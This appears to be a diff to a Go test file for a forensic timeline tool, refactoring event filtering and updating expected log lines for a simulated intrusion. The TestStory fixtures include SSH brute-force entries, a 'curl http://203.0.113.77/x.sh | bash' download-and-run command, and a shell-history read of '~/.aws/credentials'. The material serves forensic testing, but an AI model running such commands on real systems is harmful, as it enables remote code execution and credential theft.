@@ -30,7 +30,13 @@ func (e event) text(key string) string {
 }
 
 // eventsOf returns the timeline but for files.
-func eventsOf(t *testing.T, n *Node, o TimelineOptions) (events []event) {
+func eventsOf(t *testing.T, n *Node, o TimelineOptions) []event {
+	t.Helper()
+	return slices.DeleteFunc(allEvents(t, n, o), func(e event) bool { return e.text("data_type") == "fs:stat" })
+}
+
+// allEvents returns the timeline.
+func allEvents(t *testing.T, n *Node, o TimelineOptions) (events []event) {
 	t.Helper()
 	var out bytes.Buffer
 	w, err := timeline.NewWriter(timeline.Options{TempDir: t.TempDir()}, timeline.Output{W: &out, Format: timeline.JSONL})
@@ -49,9 +55,7 @@ func eventsOf(t *testing.T, n *Node, o TimelineOptions) (events []event) {
 		if err := json.Unmarshal(line, &e); err != nil {
 			t.Fatal(err)
 		}
-		if e.text("data_type") != "fs:stat" {
-			events = append(events, e)
-		}
+		events = append(events, e)
 	}
 	return events
 }
@@ -243,8 +247,8 @@ func TestStory(t *testing.T) {
 		"syslog:ssh:failed_connection|admin|203.0.113.77|51022|password|failure||",
 		"syslog:ssh:failed_connection|ec2-user|203.0.113.77|51100|password|failure||",
 		"syslog:ssh:login|ec2-user|203.0.113.77|51188|publickey|success|SHA256:1dV0Jr8N2F0kq0m8e1xkq6Jv4nYp1|",
-		"syslog:line|ec2-user||||success||/usr/bin/crictl ps -a",
-		"syslog:line|ec2-user||||success||/usr/bin/bash -c curl http://203.0.113.77/x.sh | bash",
+		"syslog:line|ec2-user|||sudo|success||/usr/bin/crictl ps -a",
+		"syslog:line|ec2-user|||sudo|success||/usr/bin/bash -c curl http://203.0.113.77/x.sh | bash",
 		"linux:utmp:event|ec2-user|203.0.113.77|||||",
 		"bash:history:entry|ec2-user||||||cat ~/.aws/credentials",
 		"bash:history:entry|root||||||id; uname -a; curl http://203.0.113.77/x.sh",
